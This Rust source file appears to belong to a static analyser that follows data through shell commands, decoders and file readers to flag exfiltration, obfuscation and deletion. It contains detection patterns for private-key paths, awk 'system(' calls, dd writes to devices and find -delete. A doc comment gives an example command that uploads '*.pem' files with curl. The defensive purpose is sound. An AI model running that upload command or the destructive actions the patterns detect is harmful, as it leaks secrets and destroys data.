//! Programs that convert text.

use super::{FETCHERS, RunCommand, invoke};
use crate::flow::{
    ActKind, EvaluatedLanguage, PathKind, SourceKind,
    eval::Evaluator,
    path_kind,
    value::FlowValue,
    vocabulary::{CodecKind, rot13, undo},
};

/// The .NET functions that read a file.
const READERS: &[&str] = &[
    ".readallbytes",
    ".readalltext",
    ".readalllines",
    ".readlines",
    ".openread",
];

impl RunCommand<'_> {
    /// Programs that convert text.
    pub(super) fn text_tool(&self, this: &mut Evaluator<'_>) -> Option<FlowValue> {
        let decodes = self.has_flag("--decode", 'd') || self.has_flag("-D", 'D');
        let encoding = match self.name {
            "base64" | "gbase64" if decodes => CodecKind::Base64,
            "base32" if decodes => CodecKind::Base32,
            "basenc" if decodes => CodecKind::Base64,
            "xxd" if self.has_flag("-r", 'r') => CodecKind::Hex,
            "openssl" if self.texts().any(|word| word == "base64") && decodes => CodecKind::Base64,
            "openssl"
                if self
                    .texts()
                    .any(|word| matches!(word, "enc" | "smime" | "pkeyutl" | "rsautl"))
                    && self.has_flag("-d", 'd') =>
            {
                CodecKind::Encrypted
            }
            "gpg" if self.has_flag("--decrypt", 'd') => CodecKind::Encrypted,
            "gunzip" | "zcat" | "uncompress" | "bunzip2" | "xzcat" | "unxz" | "zstdcat" => {
                CodecKind::Compressed
            }
            "gzip" if decodes => CodecKind::Compressed,
            "uudecode" => CodecKind::Compressed,
            "convert.frombase64string" | "system.convert.frombase64string" => CodecKind::Base64,
            "join-path" => return Some(FlowValue::concat(self.operands(), "/")),
            name if READERS.iter().any(|end| name.ends_with(end)) => {
                let path = self.operands().next().cloned().unwrap_or_default();
                return Some(this.read(&path, self.at));
            }
            "rev" => {
                let mut value = self.input.clone();
                value
                    .texts
                    .iter_mut()
                    .for_each(|text| *text = text.chars().rev().collect());
                value.taint(SourceKind::Decoded, "reversed", this.site(self.at));
                return Some(value);
            }
            "tr" => {
                let mut value = self.input.clone();
                if self.texts().any(|word| {
                    word.eq_ignore_ascii_case("a-za-z")
                        || word.contains("N-ZA-M")
                        || word.contains("n-za-m")
                }) {
                    value.texts.iter_mut().for_each(|text| *text = rot13(text));
                    value.taint(SourceKind::Decoded, "rot13", this.site(self.at));
                }
                return Some(value);
            }
            "echo" | "printf" | "write-output" | "write-host" => {
                let mut value = FlowValue::concat(
                    self.words
                        .iter()
                        .filter(|word| !matches!(word.known(), Some("-n" | "-e" | "-ne" | "-en"))),
                    " ",
                );
                if let Some(text) = value
                    .known()
                    .filter(|text| text.contains("\\x") || text.contains("\\0"))
                    .and_then(unescape)
                {
                    value = value.with_text(text);
                    value.taint(SourceKind::Decoded, "escapes", this.site(self.at));
                }
                return Some(value);
            }
            "cat" | "type" | "get-content" | "head" | "tail" | "less" | "more" | "tac"
            | "strings" | "grep" | "egrep" | "rg" | "awk" | "sed" | "cut" | "sort" | "uniq"
            | "jq" | "yq" | "tee" | "wc" | "dd" | "gzip" | "zip" | "tar" | "7z" | "base64"
            | "xxd" | "hexdump" | "find" | "ls" | "iconv" | "paste" | "nl" | "column"
            | "sqlite3" | "base32" | "basenc" | "gbase64" | "od" | "fold" | "xz" | "bzip2"
            | "zstd" | "uuencode" | "split" | "shuf" | "compress-archive" => {
                return Some(self.filter(this));
            }
            _ => return None,
        };
        let source = if self.input == FlowValue::default() {
            let operand = self.operands().last().cloned().unwrap_or_default();
            match operand.known().and_then(|path| this.file(path)).cloned() {
                Some(stored) => stored,
                None if self.name.contains("convert") => operand,
                None => this.read(&operand, self.at),
            }
        } else {
            self.input.clone()
        };
        let mut value = source.clone();
        value.texts = source
            .texts
            .iter()
            .filter_map(|text| undo(encoding, text))
            .collect();
        value.taint(SourceKind::Decoded, self.name, this.site(self.at));
        Some(value)
    }

    /// Programs whose output consists of files and input.
    pub(super) fn filter(&self, this: &mut Evaluator<'_>) -> FlowValue {
        let mut value = self.input.clone();
        let mut command = None;
        for word in &self.words {
            let Some(text) = word.known() else {
                value.absorb(word);
                continue;
            };
            if text.starts_with('-') && text != "-" {
                continue;
            }
            value.absorb(word);
            let looks_like_path = text.contains('/')
                || text.starts_with(['~', '.'])
                || this.file(text).is_some()
                || text.contains("id_rsa")
                || matches!(self.name, "cat" | "head" | "tail" | "type" | "get-content");
            if looks_like_path
                && !matches!(self.name, "sed" if text.starts_with("s/"))
                && self.name != "tee"
            {
                let read = this.read(word, self.at);
                value.absorb(&read);
                if value.texts.is_empty() {
                    value.texts = read.texts;
                }
            }
            if self.name == "awk"
                && (text.contains("system(")
                    || text.contains("| getline")
                    || text.contains("|getline"))
            {
                command = Some(text.to_owned());
            }
        }
        if !matches!(self.name, "cat" | "tee" | "head" | "tail")
            || self.input == FlowValue::default() && self.name != "cat"
        {
            value.texts.clear();
        }
        match self.name {
            "tee" => {
                for word in self.operands() {
                    this.write(word, &self.input.clone(), self.at);
                }
            }
            "awk" => {
                if let Some(text) = command {
                    this.act(
                        ActKind::Run,
                        self.at,
                        &text,
                        "awk",
                        None,
                        self.input.taints.clone(),
                    );
                    if let Some(inner) = text
                        .split("system(\"")
                        .nth(1)
                        .and_then(|rest| rest.split("\")").next())
                    {
                        let inner = FlowValue::text(inner);
                        this.nested(EvaluatedLanguage::Shell, &inner, self.at);
                    }
                }
            }
            "find" => self.find(this),
            "dd" => {
                if let Some(target) = self
                    .texts()
                    .find_map(|word| word.strip_prefix("of="))
                    .filter(|target| path_kind(target) == PathKind::Device)
                {
                    let line = self.line();
                    this.act(ActKind::Delete, self.at, target, &line, None, Vec::new());
                }
            }
            "tar" | "7z" if self.is_unpacking() => {
                let mut fetched = self.input.clone();
                for word in self.operands() {
                    if let Some(stored) = word.place().and_then(|path| this.file(&path)).cloned() {
                        fetched.absorb(&stored);
                    }
                }
                self.unpacks(this, fetched);
            }
            // The archive contains files that were copied together before.
            "tar" | "zip" | "7z" | "compress-archive" => {
                value.absorb(&this.staged);
                let archive = self
                    .after(&["-destinationpath", "-f", "-cf", "-czf", "--file"])
                    .or_else(|| self.operands().next());
                if let Some(archive) = archive.and_then(FlowValue::place) {
                    this.store_file(&archive, value.clone());
                }
            }
            _ => {}
        }
        value
    }

    /// `tar xzf`, `tar --extract`, `7z x`.
    fn is_unpacking(&self) -> bool {
        let first = self.texts().next().unwrap_or_default();
        match self.name {
            "7z" => matches!(first, "x" | "e"),
            _ => {
                self.has_flag("--extract", 'x')
                    || (!first.starts_with('-') && first.contains('x') && first.len() <= 6)
            }
        }
    }

    /// `find ~ -name '*.pem' -exec curl -F f=@{} url \;`
    fn find_exec(&self, this: &mut Evaluator<'_>) {
        let flag = |word: &FlowValue| matches!(word.known(), Some("-exec" | "-execdir" | "-ok"));
        let Some(start) = self.words.iter().position(flag) else {
            return;
        };
        let root = self.operands().next().map(FlowValue::shown);
        let root = root.unwrap_or_default();
        let named = self.after(&["-name", "-iname"]).map(FlowValue::shown);
        let path = match &named {
            Some(name) => format!("{root}/{}", name.replace('*', "x")),
            None => root.clone(),
        };
        let mut words = Vec::new();
        for word in &self.words[start + 1..] {
            let Some(text) = word.known() else {
                words.push(word.clone());
                continue;
            };
            if matches!(text, ";" | "\\;" | "+") {
                break;
            }
            let mut given = FlowValue::text(text.replace("{}", &path));
            if text.contains("{}") {
                given.absorb(&this.read(&FlowValue::text(root.clone()), self.at));
            }
            words.push(given);
        }
        let mut words = words.into_iter();
        let sends =
            |program: &FlowValue| program.known().is_some_and(|name| FETCHERS.contains(&name));
        if let Some(program) = words.next().filter(sends) {
            invoke(this, &program, words.collect(), None, self.at);
        }
    }

    pub(super) fn find(&self, this: &mut Evaluator<'_>) {
        let line = self.line();
        self.find_exec(this);
        if self.texts().any(|word| word == "-delete")
            || line.contains("-exec rm")
            || line.contains("-exec shred")
        {
            let root = self
                .operands()
                .next()
                .map(FlowValue::shown)
                .unwrap_or_default();
            this.act(ActKind::Delete, self.at, &root, &line, None, Vec::new());
        }
    }
}

/// `\x63` and `\143`, as `printf` and `echo -e` decode them.
fn unescape(text: &str) -> Option<String> {
    let mut bytes = Vec::with_capacity(text.len());
    let mut rest = text.as_bytes();
    while let Some((first, tail)) = rest.split_first() {
        let taken = match (first, tail) {
            (b'\\', [b'x', high, low, ..]) => {
                let digit = |byte: u8| char::from(byte).to_digit(16);
                digit(*high)
                    .zip(digit(*low))
                    .and_then(|(high, low)| u8::try_from(high * 16 + low).ok())
                    .map(|byte| (byte, 4))
            }
            (b'\\', digits) => {
                let digits: Vec<u32> = digits
                    .iter()
                    .take(4)
                    .map_while(|byte| char::from(*byte).to_digit(8))
                    .collect();
                let value = digits.iter().fold(0_u32, |value, digit| value * 8 + digit);
                (digits.len() >= 3)
                    .then(|| {
                        u8::try_from(value & 0xff)
                            .ok()
                            .map(|byte| (byte, 1 + digits.len()))
                    })
                    .flatten()
            }
            _ => None,
        };
        let (byte, length) = taken.unwrap_or((*first, 1));
        bytes.push(byte);
        rest = &rest[length..];
    }
    String::from_utf8(bytes).ok()
}
